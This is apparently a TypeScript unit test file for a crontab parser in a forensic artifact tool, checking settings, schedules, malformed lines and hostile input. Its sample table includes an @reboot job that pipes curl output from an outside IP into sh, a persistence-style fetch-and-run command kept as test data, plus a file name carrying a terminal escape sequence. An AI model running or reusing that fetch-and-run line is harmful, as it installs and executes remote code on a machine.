import { expect } from 'chai';
import { parseCrontab } from '../../src/artifacts/crontab.ts';
import { survivesHostileBytes, survivesLongLines } from './hostile.ts';

const system = Buffer.from('[root]/etc/cron.d/x');
const own = Buffer.from('[root]/var/spool/cron/crontabs/jo');
const sample = `# a remark
PATH=/bin:/usr/bin
MAILTO = "root"
17 *\t* * *  root    cd / && run-parts --report /etc/cron.hourly
@reboot jo curl http://198.51.100.9/x|sh
*/5 1-3,7 1 Jan Mon-Fri root a=b
1 2 3
`;

describe('parseCrontab', () => {
  it('reads a system table', () =>
    expect([...parseCrontab(Buffer.from(sample), system)]).to.deep.equal([
      { kind: 'setting', name: 'PATH', value: Buffer.from('/bin:/usr/bin') },
      { kind: 'setting', name: 'MAILTO', value: Buffer.from('root') },
      {
        kind: 'job',
        schedule: '17 * * * *',
        user: Buffer.from('root'),
        command: Buffer.from('cd / && run-parts --report /etc/cron.hourly'),
      },
      {
        kind: 'job',
        schedule: '@reboot',
        user: Buffer.from('jo'),
        command: Buffer.from('curl http://198.51.100.9/x|sh'),
      },
      {
        kind: 'job',
        schedule: '*/5 1-3,7 1 Jan Mon-Fri',
        user: Buffer.from('root'),
        command: Buffer.from('a=b'),
      },
      { malformed: 'no line of a crontab', offset: sample.indexOf('1 2 3') },
    ]));

  it('reads a table of a user', () =>
    expect([...parseCrontab(Buffer.from('* * * * * id > /tmp/\u001b[2J\n@daily x'), own)]).to.deep.equal([
      {
        kind: 'job',
        schedule: '* * * * *',
        user: Buffer.from('jo'),
        command: Buffer.from('id > /tmp/\u001b[2J'),
      },
      { kind: 'job', schedule: '@daily', user: Buffer.from('jo'), command: Buffer.from('x') },
    ]));

  it('ends soon on long lines', () =>
    survivesLongLines((bytes) => parseCrontab(bytes, system), 'a=', '* * * * * '));

  it('survives hostile bytes', () => {
    survivesHostileBytes((bytes) => parseCrontab(bytes, system), sample);
    survivesHostileBytes((bytes) => parseCrontab(bytes, own), sample);
  });
});
